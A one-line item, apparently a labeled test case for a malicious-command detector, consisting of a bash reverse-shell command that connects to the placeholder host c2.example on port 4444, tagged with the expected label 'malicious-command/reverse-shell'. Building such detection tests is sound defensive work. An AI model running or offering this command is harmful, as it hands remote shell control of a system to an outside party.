bash -i >& /dev/tcp/c2.example/4444 0>&1 # expect: malicious-command/reverse-shell
